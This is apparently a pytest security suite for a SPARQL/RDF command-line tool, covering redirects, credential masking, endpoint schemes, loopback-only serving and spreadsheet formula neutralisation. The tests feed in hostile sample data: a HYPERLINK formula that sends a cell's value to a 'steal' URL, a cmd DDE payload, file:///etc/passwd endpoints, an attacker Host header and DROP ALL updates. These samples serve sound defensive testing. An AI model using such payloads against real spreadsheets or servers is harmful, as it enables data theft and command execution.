"""Security and data loss at the edges: credentials never follow a redirect, passwords are never
shown, only http(s) endpoints are used, Digest authentication, SERVICE stays off, `serve`
answers only loopback host names and stops on every signal, exports never overwrite their
input, and spreadsheet cells never become formulas."""

from __future__ import annotations

import base64
import http.server
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request
import zipfile

import pytest
from click.testing import CliRunner
from hypothesis import given, strategies as st
from rdflib import Graph, Literal, URIRef
from rdflib.compare import isomorphic

from chuangshu.cli import cli
from chuangshu.errors import ChuangshuError
from chuangshu.library import Query, run_local, sparql_keywords
from chuangshu.rdf import CS, parse_file
from chuangshu.server import host_allowed
from chuangshu.sparql_client import Endpoint, RemoteError
from chuangshu.tabular import FORMULA_START, neutralise, restore

from conftest import REPO
from servers import free_port, spawn, stop

EMPTY_RESULTS = json.dumps({"head": {"vars": ["x"]}, "results": {"bindings": [
    {"x": {"type": "literal", "value": "ok"}}]}}).encode()


def run(*args, **kw):
    return CliRunner().invoke(cli, [str(a) for a in args], **kw)


class Recorder(http.server.BaseHTTPRequestHandler):
    """Answers every query with one result and records what it was sent. Subclasses
    redirect, or ask for Digest authentication."""

    seen: list

    def log_message(self, *args):
        pass

    def _record(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        type(self).seen.append({"method": self.command, "path": self.path,
                                "authorization": self.headers.get("Authorization"), "body": body})

    def answer(self):
        self.send_response(200)
        self.send_header("Content-Type", "application/sparql-results+json")
        self.send_header("Content-Length", str(len(EMPTY_RESULTS)))
        self.end_headers()
        self.wfile.write(EMPTY_RESULTS)

    def do_POST(self):
        self._record()
        self.answer()

    do_GET = do_PUT = do_POST


def start(handler_class):
    handler = type("H", (handler_class,), {"seen": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    return server, handler


@pytest.fixture
def servers():
    started = []

    def make(handler_class):
        server, handler = start(handler_class)
        started.append(server)
        return f"http://127.0.0.1:{server.server_address[1]}", handler

    yield make
    for server in started:
        server.shutdown()
        server.server_close()


def redirecting_to(target: str, status: int = 302):
    class Redirect(Recorder):
        def do_POST(self):
            self._record()
            self.send_response(status)
            self.send_header("Location", target)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_PUT = do_POST

    return Redirect


# ---- credentials and redirects -----------------------------------------------------------

@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_no_command_sends_credentials_to_the_host_a_redirect_names(servers, status):
    elsewhere, other = servers(Recorder)
    base, first = servers(redirecting_to(elsewhere + "/sparql", status))
    commands = [
        ["query", "cq01", "--endpoint", base + "/query", "--user", "u"],
        ["assess", "--endpoint", base + "/query", "--user", "u"],
        ["push", "--endpoint", base + "/query", "--with", "data", "--user", "u"],
    ]
    for args in commands:
        result = run(*args, env={"CHUANGSHU_PASSWORD": "s3cret"})
        assert result.exit_code == 1, (args, result.output)
        assert "redirected" in result.output and "not followed" in result.output, result.output
        assert "Traceback" not in result.output and "s3cret" not in result.output
    assert other.seen == []  # nothing reached the other origin: no credentials, no data
    assert first.seen and all(r["authorization"] for r in first.seen)


def test_a_redirected_update_never_counts_as_stored(servers):
    elsewhere, other = servers(Recorder)          # would answer 200 to anything
    base, first = servers(redirecting_to(elsewhere + "/update", 302))
    ep = Endpoint.from_url(base + "/query")
    with pytest.raises(RemoteError) as err:
        ep.update_("INSERT DATA { <urn:a> <urn:b> <urn:c> }")
    assert "redirected" in err.value.message("en") and other.seen == []


def test_a_query_follows_a_same_origin_307_with_its_credentials(servers):
    class Moved(Recorder):
        def do_POST(self):
            if self.path == "/old":
                self._record()
                self.send_response(307)
                self.send_header("Location", "/query")
                self.send_header("Content-Length", "0")
                self.end_headers()
            else:
                super().do_POST()

    base, handler = servers(Moved)
    result = run("query", "cq01", "--endpoint", base + "/old", "--user", "u", "--format", "json",
                 env={"CHUANGSHU_PASSWORD": "pw"})
    assert result.exit_code == 0, result.output
    assert [r["path"] for r in handler.seen] == ["/old", "/query"]
    token = "Basic " + base64.b64encode(b"u:pw").decode()
    assert all(r["authorization"] == token for r in handler.seen)


def test_a_password_in_the_url_is_used_but_never_shown(servers):
    base, handler = servers(redirecting_to("http://other:leak@127.0.0.1:9/x"))
    port = base.rsplit(":", 1)[1]
    result = run("query", "cq01", "--endpoint", f"http://alice:s3cret@127.0.0.1:{port}/query")
    assert result.exit_code == 1 and "s3cret" not in result.output and "leak" not in result.output
    assert handler.seen[0]["authorization"] == "Basic " + base64.b64encode(b"alice:s3cret").decode()
    closed = free_port()
    result = run("query", "cq01", "--endpoint", f"http://alice:s3cret@127.0.0.1:{closed}/query")
    assert result.exit_code == 1 and "cannot reach" in result.output and "s3cret" not in result.output


def test_the_password_can_be_asked_for_instead_of_typed_on_the_command_line(servers):
    base, handler = servers(Recorder)
    result = run("query", "cq01", "--endpoint", base + "/query", "--user", "u", "--password", input="typed\n")
    assert result.exit_code == 0, result.output
    assert handler.seen[0]["authorization"] == "Basic " + base64.b64encode(b"u:typed").decode()
    assert "typed" not in result.output.replace("Password", "")  # hidden input is not echoed
    visible = run("query", "cq01", "--endpoint", base + "/query", "--user", "u", "--password", "pw")
    assert visible.exit_code == 0 and "visible to other users" in visible.output


def test_digest_authentication_when_the_server_asks_for_it(servers):
    class DigestOnly(Recorder):
        def do_POST(self):
            self._record()
            auth = self.headers.get("Authorization") or ""
            if auth.startswith("Digest ") and 'username="dba"' in auth and "response=" in auth:
                self.answer()
                return
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Digest realm="SPARQL", nonce="abc123", qop="auth"')
            self.send_header("Content-Length", "0")
            self.end_headers()

    base, handler = servers(DigestOnly)
    result = run("query", "cq01", "--endpoint", base + "/sparql-auth", "--user", "dba", "--format", "json",
                 env={"CHUANGSHU_PASSWORD": "dba"})
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["results"]["bindings"][0]["x"]["value"] == "ok"
    assert "dba:dba" not in " ".join(str(r["authorization"]) for r in handler.seen)  # no Basic sent after the challenge


@pytest.mark.parametrize("url", ["file:///etc/passwd", "data:text/plain,x", "", "http://", "ftp://example.org/q",
                                 "http://[::1", "http://127.0.0.1:99999/q", "gopher://127.0.0.1/"])
def test_only_http_endpoints_are_used(url):
    for args in (["query", "cq01", "--endpoint", url], ["push", "--endpoint", url, "--with", "data"],
                 ["assess", "--endpoint", url]):
        result = run(*args)
        assert result.exit_code == 2, (args, result.output)
        assert "not an http(s) URL" in result.output and "Traceback" not in result.output


@pytest.mark.parametrize("body, ctype", [(b"<html><body>login</body></html>", "text/html"),
                                         (b"\x00\xff garbage", "application/octet-stream"),
                                         (b'{"head": {"vars": ["x"]}, "results": {"bindings": [', "application/json"),
                                         (b'{"results": {"bindings": [{"x": {"value": 1}}]}}', "application/json")])
def test_a_reply_that_is_not_sparql_results_is_one_clear_line(servers, body, ctype):
    class Odd(Recorder):
        def answer(self):
            self.send_response(200)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    base, _ = servers(Odd)
    result = run("query", "cq01", "--endpoint", base + "/query")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "not" in result.output and len(result.output.strip().splitlines()) == 1


def test_a_reply_larger_than_the_cap_is_not_read_whole(servers):
    class Endless(Recorder):
        def answer(self):
            self.send_response(200)
            self.send_header("Content-Type", "application/sparql-results+json")
            self.end_headers()
            try:
                for _ in range(4 * 1024):
                    self.wfile.write(b" " * 1024)
            except OSError:
                pass

    base, _ = servers(Endless)
    result = run("query", "cq01", "--endpoint", base + "/query", "--max-reply", "1")
    assert result.exit_code == 1 and "larger than 1 MiB" in result.output


def test_a_graph_store_failure_is_reported_not_retried_another_way(servers):
    class BrokenStore(Recorder):
        def do_PUT(self):
            self._record()
            self.send_response(500)
            self.send_header("Content-Length", "0")
            self.end_headers()

    base, handler = servers(BrokenStore)
    result = run("push", "--endpoint", base + "/query", "--with", "data")
    assert result.exit_code == 1 and "HTTP 500" in result.output and "not retried" in result.output
    assert [r["method"] for r in handler.seen] == ["PUT"]  # no SPARQL Update fallback after a failure


# ---- SERVICE --------------------------------------------------------------------------------

def test_service_is_found_only_as_a_keyword():
    assert "SERVICE" in sparql_keywords("SELECT * { SERVICE <http://x/> { ?s ?p ?o } }")
    assert "SERVICE" in sparql_keywords("select * { service silent ?g { ?s ?p ?o } }")
    quiet = ('PREFIX service: <http://e/SERVICE#> SELECT ?service { ?s service:SERVICE "SERVICE" , '
             "'''a\nSERVICE''' . } # SERVICE <http://x/>")
    assert "SERVICE" not in sparql_keywords(quiet)


@pytest.mark.parametrize("engine", ["oxigraph", "rdflib"])
def test_a_local_query_never_contacts_another_host_unless_allowed(engine, tmp_path):
    q = Query("q", "SELECT * WHERE { SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o } }")
    with pytest.raises(ChuangshuError) as err:
        run_local(q, Graph(), {}, engine)
    assert "--allow-service" in err.value.message("en")
    f = tmp_path / "q.rq"
    f.write_text("SELECT * WHERE { SERVICE <file:///etc/passwd> { ?s ?p ?o } }", encoding="utf-8")
    result = run("query", f)
    assert result.exit_code == 2 and "SERVICE" in result.output


# ---- serve --------------------------------------------------------------------------------

def test_loopback_host_names():
    assert all(host_allowed(h) for h in ["127.0.0.1:7878", "localhost:1", "LOCALHOST", "[::1]:80", "127.0.0.1"])
    assert not any(host_allowed(h) for h in [None, "", "evil.example:7878", "127.0.0.1.evil.example", "localhost.evil",
                                             "[::2]:80", "0.0.0.0:7878"])


def _start_serve(port, *extra):
    proc = spawn([sys.executable, "-m", "chuangshu.cli", "serve", "--port", str(port), "--with", "data", *extra],
                 start_new_session=True)
    deadline = time.time() + 90
    while time.time() < deadline:
        assert proc.poll() is None, proc.stderr.read()
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1):
                return proc
        except OSError:
            time.sleep(0.2)
    stop(proc)
    raise AssertionError("serve did not start")


def _get(port, path, host=None, method="GET", body=None, ctype=None):
    req = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=body, method=method)
    if host:
        req.add_unredirected_header("Host", host)
    if ctype:
        req.add_header("Content-Type", ctype)
    try:
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as err:
        return err.code, err.read()


@pytest.fixture(scope="module")
def serve_port():
    port = free_port()
    proc = _start_serve(port)
    yield port
    stop(proc)


def test_serve_answers_loopback_only_and_hands_out_no_dump(serve_port):
    q = urllib.parse.quote("SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }")
    status, body = _get(serve_port, f"/query?query={q}")
    assert status == 200 and int(json.loads(body)["results"]["bindings"][0]["n"]["value"]) > 500
    assert _get(serve_port, f"/query?query={q}", host="attacker.example:7878")[0] == 403   # DNS rebinding
    assert _get(serve_port, "/store")[0] == 403
    assert _get(serve_port, "/store?default", method="PUT", body=b"<urn:a> <urn:b> <urn:c> .",
                ctype="application/n-triples")[0] == 405
    assert _get(serve_port, "/update", method="POST", body=b"DROP ALL", ctype="application/sparql-update")[0] == 403
    assert _get(serve_port, "/query", method="POST", body=b"update=DROP%20ALL",
                ctype="application/x-www-form-urlencoded")[0] == 403
    service = urllib.parse.quote("SELECT * WHERE { SERVICE <http://127.0.0.1:9/> { ?s ?p ?o } }")
    assert _get(serve_port, f"/query?query={service}")[0] == 403
    status, body = _get(serve_port, f"/query?query={q}")
    assert int(json.loads(body)["results"]["bindings"][0]["n"]["value"]) > 500   # still all there
    status, page = _get(serve_port, "/")
    assert status == 200 and b"<script src" not in page and b"http" not in page.split(b"<script>")[1]


def test_serve_answers_construct_and_ask_by_content_negotiation(serve_port):
    construct = urllib.parse.quote("CONSTRUCT { ?s a ?t } WHERE { ?s a ?t } LIMIT 3")
    req = urllib.request.Request(f"http://127.0.0.1:{serve_port}/query?query={construct}",
                                 headers={"Accept": "application/n-triples"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        assert resp.headers["Content-Type"].startswith("application/n-triples")
        assert len(Graph().parse(data=resp.read().decode(), format="nt")) == 3
    ask = urllib.parse.quote("ASK { ?s ?p ?o }")
    assert json.loads(_get(serve_port, f"/query?query={ask}")[1])["boolean"] is True


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT])
def test_serve_stops_on_every_signal_and_leaves_nothing(sig, tmp_path):
    port = free_port()
    proc = _start_serve(port)
    children = subprocess.run(["ps", "-o", "pid=", "--ppid", str(proc.pid)], capture_output=True, text=True).stdout.split()
    assert children == []  # no server child to orphan
    proc.send_signal(sig)
    assert proc.wait(timeout=20) == 128 + sig       # 143, 129, 130: what README says every command exits with
    proc.stderr.close()
    with pytest.raises(OSError):
        socket.create_connection(("127.0.0.1", port), timeout=1).close()


_SWALLOWING_READY = """
import os, signal, sys
from rdflib import Graph
from chuangshu.server import serve

def ready(url):
    # a stop that lands in code catching every Exception (click's output helpers do) must still stop
    try:
        os.kill(os.getpid(), signal.SIGTERM)
    except Exception:
        print("swallowed", file=sys.stderr)

sys.exit(serve(Graph(), int(sys.argv[1]), on_ready=ready))
"""


def test_serve_stops_on_a_signal_that_lands_while_it_announces_itself():
    result = subprocess.run([sys.executable, "-c", _SWALLOWING_READY, str(free_port())],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 128 + signal.SIGTERM and "swallowed" not in result.stderr and "Traceback" not in result.stderr


def test_serve_on_a_port_in_use_says_so_before_anything_else():
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = subprocess.run([sys.executable, "-m", "chuangshu.cli", "serve", "--port", str(port), "--with", "data"],
                                capture_output=True, text=True, timeout=120)
    assert result.returncode == 2
    assert "in use" in result.stderr and "serving" not in result.stderr and "Traceback" not in result.stderr


# ---- export never loses its input -----------------------------------------------------------

def test_export_refuses_to_overwrite_its_own_input(tmp_path):
    data = tmp_path / "d.ttl"
    data.write_bytes((REPO / "data" / "d-community.ttl").read_bytes())
    before = data.read_bytes()
    for target in (data, tmp_path / "." / "d.ttl"):
        result = run("export", data, "-o", target)
        assert result.exit_code == 2 and "overwrite the input" in result.output
    link = tmp_path / "alias.ttl"
    link.symlink_to(data)
    assert run("export", data, "-o", link).exit_code == 2
    assert data.read_bytes() == before and sorted(p.name for p in tmp_path.iterdir()) == ["alias.ttl", "d.ttl"]


def test_export_keeps_permissions_and_links_and_refuses_special_files(tmp_path):
    private = tmp_path / "private.ttl"
    private.write_text("old\n")
    private.chmod(0o600)
    assert run("export", "-o", private, "--with", "data", "--no-void").exit_code == 0
    assert stat.S_IMODE(private.stat().st_mode) == 0o600 and len(parse_file(private)) > 100
    target = tmp_path / "real.ttl"
    target.write_text("old\n")
    link = tmp_path / "link.ttl"
    link.symlink_to(target)
    assert run("export", "-o", link, "--with", "data", "--no-void").exit_code == 0
    assert link.is_symlink() and len(parse_file(target)) > 100
    fifo = tmp_path / "pipe.ttl"
    os.mkfifo(fifo)
    result = run("export", "-o", fifo, "--with", "data", "--no-void")
    assert result.exit_code == 2 and "not a regular file" in result.output
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    folder = tmp_path / "dir.ttl"
    folder.mkdir()
    assert run("export", "-o", folder, "--with", "data", "--no-void").exit_code == 2
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


# ---- spreadsheets never carry formulas --------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://example.org/steal?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "'=already quoted", "''+two quotes", "=1+1"]


@given(st.text(max_size=40))
def test_neutralise_round_trips_and_never_starts_a_formula(text):
    safe = neutralise(text)
    assert restore(safe) == text
    assert not safe.startswith(FORMULA_START)


def _quotations_graph() -> Graph:
    g = parse_file(REPO / "data" / "d-community.ttl")
    q, text = URIRef("https://w3id.org/chuangshu/data/quote-D-problem"), URIRef(CS + "quotationText")
    assert g.value(q, text) is not None
    g.set((q, text, Literal(HOSTILE[0], lang="zh")))   # a quotation column
    for i, text in enumerate(HOSTILE):
        g.add((URIRef(f"https://w3id.org/chuangshu/data/note-{i}"), URIRef("http://www.w3.org/2000/01/rdf-schema#comment"),
               Literal(text, lang="en")))
    return g


def test_template_from_hostile_text_writes_no_formula_and_imports_back_the_same(tmp_path):
    g = _quotations_graph()
    source = tmp_path / "hostile.ttl"
    source.write_text(g.serialize(format="turtle"), encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    result = run("template", "-o", out, "--from", source, "--from", REPO / "data" / "source.ttl")
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out / "chuangshu-template.xlsx") as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets)
    statements = (out / "chuangshu-template-csv" / "statements.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in statements and "\n=" not in statements and ",=" not in statements
    expected = g + parse_file(REPO / "data" / "source.ttl")
    for inputs in ([out / "chuangshu-template.xlsx"], sorted((out / "chuangshu-template-csv").glob("*.csv"))):
        back = tmp_path / f"back-{len(inputs)}.ttl"
        result = run("import", *inputs, "-o", back, "--force")
        assert back.is_file(), result.output
        assert isomorphic(parse_file(back), expected)


def _counting(answer: bytes | None):
    """A store that takes every update and answers the count with ``answer`` (None: HTTP 500)."""
    class Counting(Recorder):
        def do_POST(self):
            self._record()
            body = type(self).seen[-1]["body"]
            is_count = b"COUNT" in body or "COUNT" in urllib.parse.unquote(self.path)
            if not is_count:
                self.send_response(204)
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif answer is None:
                self.send_response(500)
                self.send_header("Content-Length", "0")
                self.end_headers()
            else:
                self.send_response(200)
                self.send_header("Content-Type", "application/sparql-results+json")
                self.send_header("Content-Length", str(len(answer)))
                self.end_headers()
                self.wfile.write(answer)

        do_GET = do_PUT = do_POST

    return Counting


@pytest.mark.parametrize("answer", [None, json.dumps({"head": {"vars": ["n"]}, "results": {"bindings": []}}).encode(),
                                    json.dumps({"head": {"vars": ["n"]}, "results": {"bindings": [
                                        {"n": {"type": "literal", "value": "many"}}]}}).encode()])
def test_push_says_so_when_the_count_has_no_number(servers, answer):
    base, _ = servers(_counting(answer))
    result = run("--lang", "en", "push", "--endpoint", base + "/query", "--update", base + "/update", "--no-gsp",
                 "--with", "ontology")
    assert result.exit_code == 1, result.output                      # the server's fault, not a bug of ours (3)
    assert "Traceback" not in result.output and "internal error" not in result.output


def test_the_timeout_bounds_the_whole_call_retries_included(servers):
    class Slow(Recorder):
        def do_POST(self):
            self._record()
            time.sleep(1.5)
            self.send_response(503)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_POST

    base, handler = servers(Slow)
    started = time.monotonic()
    result = run("--lang", "en", "query", "cq01", "--endpoint", base + "/query", "--timeout", "2")
    took = time.monotonic() - started
    assert result.exit_code == 1 and "Traceback" not in result.output
    # one 1.5 s answer and at most one retry that the remaining time allows; 4 attempts would take 6 s+
    assert took < 4.5 and len(handler.seen) <= 2, (took, len(handler.seen), result.output)
